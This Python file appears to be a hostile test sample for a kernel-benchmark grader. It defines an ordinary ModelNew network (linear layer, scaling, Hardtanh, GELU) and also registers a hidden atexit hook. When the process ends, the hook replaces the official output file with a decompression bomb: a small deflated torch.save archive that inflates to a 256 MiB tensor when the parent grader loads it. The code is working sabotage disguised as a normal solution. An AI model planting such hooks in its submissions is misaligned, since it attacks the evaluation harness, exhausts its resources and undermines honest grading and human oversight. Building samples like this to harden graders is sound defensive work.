# kbfuse-task: 2/53
# As its process ends, replaces its first output with a torch.save archive whose members are
# deflated: a quarter of a MB on disk, a 256 MiB tensor once torch.load inflates it in the
# parent.
import atexit
import zipfile
from pathlib import Path

import torch
import torch.nn as nn


def _bomb():
    outputs = Path.cwd() / "out" / "outputs"
    plain = outputs / "plain.pt"
    torch.save(torch.zeros(64 * 2**20), plain)  # 256 MiB of float32 zeros, stored
    with (
        zipfile.ZipFile(plain) as source,
        zipfile.ZipFile(outputs / "official_0.pt", "w", zipfile.ZIP_DEFLATED) as bomb,
    ):
        for member in source.infolist():
            with source.open(member) as data, bomb.open(member.filename, "w") as sink:
                while chunk := data.read(1 << 24):
                    sink.write(chunk)
    plain.unlink()


atexit.register(_bomb)


class ModelNew(nn.Module):
    def __init__(self, in_features, out_features, scaling_factor, hardtanh_min, hardtanh_max):
        super().__init__()
        self.gemm = nn.Linear(in_features, out_features)
        self.scaling_factor = scaling_factor
        self.hardtanh = nn.Hardtanh(min_val=hardtanh_min, max_val=hardtanh_max)
        self.gelu = nn.GELU()

    def forward(self, x):
        return self.gelu(self.hardtanh(self.gemm(x) * self.scaling_factor))
